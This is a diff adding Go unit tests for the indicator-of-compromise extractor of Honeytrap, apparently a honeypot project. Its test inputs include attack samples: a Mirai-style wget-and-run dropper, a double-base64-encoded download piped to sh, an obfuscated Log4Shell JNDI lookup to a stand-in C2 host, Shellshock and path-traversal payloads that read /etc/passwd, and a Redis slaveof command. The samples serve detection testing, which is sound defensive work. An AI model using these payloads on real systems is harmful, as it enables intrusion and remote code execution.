@@ -0,0 +1,269 @@
+/*
+* Honeytrap
+* Copyright (C) 2016-2017 DutchSec (https://dutchsec.com/)
+*
+* This program is free software; you can redistribute it and/or modify it under
+* the terms of the GNU Affero General Public License version 3 as published by the
+* Free Software Foundation.
+*
+* This program is distributed in the hope that it will be useful, but WITHOUT
+* ANY WARRANTY; without even the implied warranty of MERCHANTABILITY or FITNESS
+* FOR A PARTICULAR PURPOSE.  See the GNU Affero General Public License for more
+* details.
+*
+* You should have received a copy of the GNU Affero General Public License
+* version 3 along with this program in the file "LICENSE".  If not, see
+* <http://www.gnu.org/licenses/agpl-3.0.txt>.
+*
+* See https://honeytrap.io/ for more details. All requests should be sent to
+* licensing@honeytrap.io
+*
+* The interactive user interfaces in modified source and object code versions
+* of this program must display Appropriate Legal Notices, as required under
+* Section 5 of the GNU Affero General Public License version 3.
+*
+* In accordance with Section 7(b) of the GNU Affero General Public License version 3,
+* these Appropriate Legal Notices must retain the display of the "Powered by
+* Honeytrap" logo and retain the original copyright notice. If the display of the
+* logo is not reasonably feasible for technical reasons, the Appropriate Legal Notices
+* must display the words "Powered by Honeytrap" and retain the original copyright notice.
+ */
+package ioc
+
+import (
+	"encoding/base64"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/BurntSushi/toml"
+	"github.com/honeytrap/honeytrap/enricher"
+	"github.com/honeytrap/honeytrap/event"
+)
+
+func TestExtract(t *testing.T) {
+	x := &Extractor{
+		MaxDepth:  3,
+		MaxLength: 64 * 1024,
+		Markers:   defaultMarkers(),
+	}
+
+	tests := []struct {
+		name     string
+		text     string
+		expected Indicators
+	}{
+		{
+			name: "dropper",
+			text: "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; /bin/busybox ECCHI",
+			expected: Indicators{
+				URLs:    []string{"http://198.51.100.7/bins.sh"},
+				IPv4:    []string{"198.51.100.7"},
+				Markers: []string{"cmd-injection", "dropper", "mirai-busybox"},
+			},
+		},
+		{
+			name: "domains and emails",
+			text: "curl -s https://evil.example.com:8443/x.php?a=b | mail -s report admin@example.org; ping c2.example.net",
+			expected: Indicators{
+				URLs:    []string{"https://evil.example.com:8443/x.php?a=b"},
+				Domains: []string{"evil.example.com", "c2.example.net"},
+				Emails:  []string{"admin@example.org"},
+			},
+		},
+		{
+			name: "ipv6",
+			text: "connect 2001:db8::1 port 23, at 12:30:45, from fe80::1ff:fe23:4567:890a",
+			expected: Indicators{
+				IPv6: []string{"2001:db8::1", "fe80::1ff:fe23:4567:890a"},
+			},
+		},
+		{
+			name: "base64",
+			// echo 'wget http://198.51.100.7/x.sh' | base64, encoded again
+			text: "echo ZDJkbGRDQm9kSFJ3T2k4dk1UazRMalV4TGpFd01DNDNMM2d1YzJnPQ== | base64 -d | base64 -d | sh",
+			expected: Indicators{
+				URLs:   []string{"http://198.51.100.7/x.sh"},
+				IPv4:   []string{"198.51.100.7"},
+				Base64: []string{"d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3guc2g=", "wget http://198.51.100.7/x.sh"},
+			},
+		},
+		{
+			name: "jndi",
+			text: "/?x=${${lower:j}${::-n}di:ldap://${hostName}.c2.example.com/a}",
+			expected: Indicators{
+				Domains: []string{"c2.example.com"},
+				JNDI:    []string{"${jndi:ldap://${hostName}.c2.example.com/a}"},
+				Markers: []string{"log4shell"},
+			},
+		},
+		{
+			name: "url encoded",
+			text: "/cgi-bin/test.cgi?cmd=..%2f..%2f..%2fetc%2fpasswd",
+			expected: Indicators{
+				Markers: []string{"path-traversal", "etc-passwd"},
+			},
+		},
+		{
+			name: "shellshock",
+			text: "() { :; }; /bin/bash -c 'cat /etc/passwd'",
+			expected: Indicators{
+				Markers: []string{"etc-passwd", "shellshock"},
+			},
+		},
+		{
+			name:     "nothing",
+			text:     "uname -a; cat /proc/cpuinfo; ls -la bins.sh index.html 0123456789abcdef0123456789abcdef",
+			expected: Indicators{},
+		},
+	}
+
+	for _, test := range tests {
+		i := x.Extract(test.text)
+		i.seen = nil
+		i.scanned = 0
+
+		if !reflect.DeepEqual(*i, test.expected) {
+			t.Errorf("%s: expected %+v, got %+v", test.name, test.expected, *i)
+		}
+	}
+}
+
+func TestExtractLimits(t *testing.T) {
+	x := &Extractor{
+		MaxDepth:        3,
+		MaxLength:       64 * 1024,
+		MaxBase64Length: 16,
+	}
+
+	blob := base64.StdEncoding.EncodeToString([]byte("wget http://203.0.113.9/a.sh; sh a.sh"))
+
+	// repeated blobs are decoded and scanned once
+	text := strings.Repeat(blob+" ", 100)
+
+	i := x.Extract(text)
+	if len(i.Base64) != 1 || i.Base64[0] != "wget http://203." {
+		t.Errorf("expected a single truncated blob, got %q", i.Base64)
+	}
+
+	if len(i.URLs) != 1 || i.URLs[0] != "http://203.0.113.9/a.sh" {
+		t.Errorf("expected url of the blob, got %q", i.URLs)
+	}
+
+	if expected := len(text) + len("wget http://203.0.113.9/a.sh; sh a.sh"); i.scanned != expected {
+		t.Errorf("expected %d bytes scanned, got %d", expected, i.scanned)
+	}
+
+	// the fields of an event are scanned up to the total
+	x.MaxTotal = 32
+
+	i = x.Extract("wget http://198.51.100.7/bins.sh", "wget http://198.51.100.8/bins.sh")
+	if len(i.URLs) != 1 || i.URLs[0] != "http://198.51.100.7/bins.sh" || i.scanned != 32 {
+		t.Errorf("expected only the first field scanned, got %q (%d bytes)", i.URLs, i.scanned)
+	}
+}
+
+func TestJNDILookupsInvalidUTF8(t *testing.T) {
+	// invalid utf-8 changes the length of strings.ToLower
+	text := strings.Repeat("\xff", 20) + "${JNDI:x"
+
+	if lookups := jndiLookups(text); !reflect.DeepEqual(lookups, []string{"${JNDI:x"}) {
+		t.Errorf("expected the lookup, got %q", lookups)
+	}
+
+	x := &Extractor{}
+
+	if i := x.Extract(text + " ${jndi:ldap://a}"); !reflect.DeepEqual(i.JNDI, []string{"${JNDI:x ${jndi:ldap://a}"}) {
+		t.Errorf("expected the lookup, got %q", i.JNDI)
+	}
+}
+
+func TestExtractUnlimited(t *testing.T) {
+	x := &Extractor{}
+
+	text := strings.Repeat("a", 128*1024) + " http://198.51.100.7/x"
+
+	if i := x.Extract(text); !reflect.DeepEqual(i.URLs, []string{"http://198.51.100.7/x"}) || i.scanned != len(text) {
+		t.Errorf("expected the whole text scanned, got %q (%d bytes)", i.URLs, i.scanned)
+	}
+}
+
+const config = `
+[ioc]
+fields = ["telnet.command", "redis.args"]
+max_depth = 0
+
+[ioc.markers]
+"test-marker" = "(?i)honeytrap"
+`
+
+func TestEnrich(t *testing.T) {
+	s := struct {
+		IOC toml.Primitive `toml:"ioc"`
+	}{}
+
+	if _, err := toml.Decode(config, &s); err != nil {
+		t.Fatal(err)
+	}
+
+	en, err := New(enricher.WithConfig(s.IOC))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	e := event.New(
+		event.Custom("telnet.command", "echo HoneyTrap; echo aHR0cDovLzE5OC41MS4xMDAuNy94"),
+		event.Custom("redis.args", []string{"slaveof", "198.51.100.8", "6379"}),
+		event.Custom("payload", "http://198.51.100.9/ignored"),
+	)
+
+	en.Enrich(e)
+
+	expected := map[string][]string{
+		"ioc.ipv4":    {"198.51.100.8"},
+		"ioc.base64":  {"http://198.51.100.7/x"},
+		"ioc.markers": {"test-marker", "redis-master-slave"},
+	}
+
+	for field, values := range expected {
+		if v, _ := e.Load(field); !reflect.DeepEqual(v, values) {
+			t.Errorf("%s: expected %v, got %v", field, values, v)
+		}
+	}
+
+	for _, field := range []string{"ioc.urls", "ioc.domains", "ioc.jndi"} {
+		if v, ok := e.Load(field); ok {
+			t.Errorf("%s: unexpected %v", field, v)
+		}
+	}
+
+	e = event.New(
+		event.Custom("telnet.command", "ls"),
+	)
+
+	en.Enrich(e)
+
+	if v, ok := e.Load("ioc.markers"); ok {
+		t.Errorf("unexpected markers %v", v)
+	}
+
+	if _, err := New(func(en enricher.Enricher) error {
+		en.(*IOC).Markers = map[string]string{"invalid": "("}
+		return nil
+	}); err == nil {
+		t.Error("expected error for invalid marker")
+	}
+	for _, fn := range []func(*IOC){
+		func(c *IOC) { c.MaxDepth = -1 },
+		func(c *IOC) { c.MaxLength = -1 },
+		func(c *IOC) { c.MaxTotal = -1 },
+		func(c *IOC) { c.MaxBase64Length = -1 },
+	} {
+		if _, err := New(func(en enricher.Enricher) error {
+			fn(en.(*IOC))
+			return nil
+		}); err == nil {
+			t.Error("expected error for negative limit")
+		}
+	}
+}